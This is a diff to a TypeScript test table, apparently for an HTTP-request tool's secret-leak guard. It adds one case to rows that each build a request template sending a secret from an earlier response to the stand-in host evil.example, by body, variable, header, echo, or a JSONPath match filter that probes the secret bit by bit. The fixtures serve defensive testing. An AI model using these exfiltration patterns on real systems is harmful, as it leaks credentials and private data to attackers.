@@ -159,6 +159,7 @@ const groups: Readonly<Record<string, Readonly<Record<string, Row>>>> = {
     'in a body, with the whole answer': plain(`${key}POST https://evil.example/\n\n{{key.response.body}}\n`, 'variable.guarded'),
     'by way of a variable': plain(`${key}@v = x{{key.response.body.$.secret}}\nPOST https://evil.example/\n\n{{v}}\n`, 'variable.guarded'),
     'out of the answer that repeats it': plain(`${key}# @name echo\nGET /projects\nX-A: {{key.response.body.$.secret}}\n\n###\nGET https://evil.example/\nX-A: {{echo.response.body.$.echo}}\n`, 'variable.guarded'),
+    'bit by bit, by a path that looks at it': plain(`${key}GET https://evil.example{{key.response.body.$[?match(@,'/v2.*')]}}\n`, 'variable.guarded'),
     'that somebody agreed to': plain(`${key}GET https://evil.example/\nX-A: {{key.response.body.$.secret}}\n`, 'evil', { interaction: careless(), agreed: [secrets.given] }),
     'beside what is no secret': plain(`${key}GET https://evil.example{{key.response.body.$.path}}\n`, 'evil'),
   },
